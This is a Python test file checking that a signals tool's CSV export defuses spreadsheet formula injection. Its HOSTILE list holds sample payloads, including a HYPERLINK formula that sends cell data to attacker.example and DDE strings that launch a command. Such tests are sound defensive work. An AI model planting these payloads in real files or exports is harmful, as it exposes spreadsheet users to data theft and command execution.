"""Hole 8: a CSV export neutralises cells a spreadsheet would run as a formula (synthetic signals)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from signaal.cli import main
from signaal.domain.actor import Actor
from signaal.domain.signal import SignalCreate
from signaal.ingest.tabular import FORMULA_STARTS, safe_cell
from signaal.services import signals as service
from signaal.store import Store

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?"&A1,"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.storage
def test_csv_export_neutralises_formula_cells(
    store: Store, actor: Actor, cli_env: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for i, narrative in enumerate(HOSTILE):
        data = SignalCreate(
            received_at="2026-01-05",  # type: ignore[arg-type]
            reporter_org=actor.org,
            reporter_sector="youth",
            region="Utrecht",
            narrative=f"{narrative} synthetic {i}",
        )
        service.record_signal(store, actor, data)
    capsys.readouterr()
    assert main(["signals", "export", "--format", "csv"]) == 0
    table = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    narratives = [row[table[0].index("narrative")] for row in table[1:]]
    assert len(narratives) == len(HOSTILE)
    cells = [cell for row in table for cell in row]
    assert not [c for c in cells if c[:1] in FORMULA_STARTS]
    assert sorted(n.lstrip("'") for n in narratives) == sorted(
        f"{n} synthetic {i}".strip() for i, n in enumerate(HOSTILE)
    )


@given(st.text())
def test_safe_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    safe = safe_cell(text)
    assert safe[:1] not in FORMULA_STARTS
    assert safe == text or safe == "'" + text
